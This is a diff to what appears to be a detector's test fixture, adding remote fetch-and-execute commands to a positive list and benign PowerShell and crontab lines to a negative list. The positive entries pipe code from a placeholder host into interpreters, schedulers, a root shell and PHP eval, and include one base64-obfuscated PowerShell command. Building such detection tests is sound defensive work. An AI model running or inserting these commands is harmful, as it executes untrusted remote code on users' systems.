@@ -95,7 +95,15 @@ POSITIVE = [
     "curl -o i.sh https://x.example/i.sh && source i.sh",
     "curl -fsSLo /usr/local/bin/tool https://x.example/t && chmod +x /usr/local/bin/tool && tool",
     "curl -s https://x.example/t | sudo tee /usr/local/bin/tool >/dev/null; tool --init",
+    # other code runners
+    "curl https://x.example/a | lua -",
+    "curl https://x.example/a | at now",
+    "curl https://x.example/a | crontab -",
+    'su root -c "$(curl -fsSL https://x.example/a)"',
+    "curl https://x.example/a | php -r 'eval(stream_get_contents(STDIN));'",
     # PowerShell
+    "powershell -NoP -NonI -enc "
+    "aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALwBhAC4AcABzADEAIAB8ACAAaQBlAHgA",
     'powershell -c "iwr https://x.example/a.ps1 | iex"',
     'pwsh -Command "irm https://x.example/a.ps1 | Invoke-Expression"',
     "powershell -NoProfile -ExecutionPolicy Bypass -Command "
@@ -129,6 +137,10 @@ NEGATIVE = [
     "source .venv/bin/activate",
     "sh -c 'echo hello'",
     "diff <(curl -s https://x.example/a) <(curl -s https://x.example/b)",
+    "pwsh -File install.ps1",
+    "powershell -ExecutionPolicy Bypass -File ./build.ps1",
+    'powershell -c "Get-ChildItem | Format-List"',
+    "crontab -l",
 ]
 
 
